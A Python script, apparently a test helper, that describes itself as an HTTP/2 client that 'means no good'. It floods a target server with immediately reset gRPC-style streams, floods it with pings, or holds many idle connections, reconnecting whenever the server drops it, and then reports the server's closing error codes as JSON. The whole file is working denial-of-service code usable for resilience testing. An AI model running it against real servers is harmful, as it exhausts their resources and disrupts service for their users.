"""A client of HTTP/2 that means no good, in a process of its own, until its standard input is closed.

    python floods.py {METHOD,pings,idle} ADDRESS COUNT {plain,tls}

At least COUNT calls of a method that are reset at once, pings, or connections that stay idle; over TLS as a
stranger without a credential. A connection that the server ends is made anew. Prints "begun", and at the end
how many there were and with which errors connections were ended, as one line of JSON.
"""

from __future__ import annotations

import json
import socket
import ssl
import sys
import threading
from collections import Counter
from contextlib import ExitStack

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.events import ConnectionTerminated
from h2.exceptions import ProtocolError

BURST = 50
"""Streams or pings before the server is listened to."""
PEER_SECONDS = 10.0
TRUSTING_ANYONE = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
TRUSTING_ANYONE.check_hostname, TRUSTING_ANYONE.verify_mode = False, ssl.CERT_NONE
TRUSTING_ANYONE.set_alpn_protocols(["h2"])


class Peer:
    """One connection."""

    def __init__(self, address: str, is_secured: bool) -> None:
        host, port = address.rsplit(":", 1)
        self.socket: socket.socket = socket.create_connection((host, int(port)), PEER_SECONDS)
        if is_secured:
            self.socket = TRUSTING_ANYONE.wrap_socket(self.socket)
        self.http = H2Connection(H2Configuration(header_encoding="utf-8"))
        self.http.initiate_connection()
        self.send()

    def send(self) -> None:
        self.socket.sendall(self.http.data_to_send())

    def listen(self, seconds: float) -> str:
        """Take what comes within that time; returns why the connection was ended, empty if it goes on."""
        self.socket.settimeout(seconds)
        try:
            data = self.socket.recv(1 << 16)
        except (BlockingIOError, ssl.SSLWantReadError):
            return ""
        finally:
            self.socket.settimeout(PEER_SECONDS)
        ends = [event for event in self.http.receive_data(data) if isinstance(event, ConnectionTerminated)]
        return ErrorCodes(ends[0].error_code or 0).name if ends else "" if data else "CLOSED"

    def reset(self, method: str) -> None:
        stream = self.http.get_next_available_stream_id()
        names = (":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "x")
        kind = ("te", "trailers"), ("content-type", "application/grpc"), ("grpc-timeout", "60S")
        self.http.send_headers(stream, [*names, *kind])
        self.http.reset_stream(stream, ErrorCodes.CANCEL)

    def ping(self) -> None:
        self.http.ping(b"no pause")


def flood(kind: str, address: str, count: int, is_secured: bool, over: threading.Event) -> Counter[str]:
    """One connection after the other, each for as long as the server bears it."""
    found: Counter[str] = Counter()
    answer_seconds = PEER_SECONDS if kind == "pings" else 0.0
    peer = Peer(address, is_secured)
    while found["sent"] < count or not over.is_set():
        try:
            for _ in range(BURST):
                peer.ping() if kind == "pings" else peer.reset(kind)
            peer.send()
            found["sent"] += BURST
            ended = peer.listen(answer_seconds)
        except (OSError, ProtocolError) as error:
            ended = type(error).__name__
        if ended:
            found[ended] += 1
            peer.socket.close()
            peer = Peer(address, is_secured)
    peer.socket.close()
    return found


def idle(address: str, count: int, is_secured: bool, over: threading.Event) -> Counter[str]:
    with ExitStack() as stack:
        peers = [Peer(address, is_secured) for _ in range(count)]
        for peer in peers:
            stack.callback(peer.socket.close)
        over.wait()
        return Counter({"sent": count})


def main(kind: str, address: str, count: str, how: str) -> None:
    over = threading.Event()

    def await_end() -> None:
        sys.stdin.read()
        over.set()

    threading.Thread(target=await_end, daemon=True).start()
    print("begun", flush=True)
    given = (address, int(count), how == "tls", over)
    print(json.dumps(idle(*given) if kind == "idle" else flood(kind, *given)), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
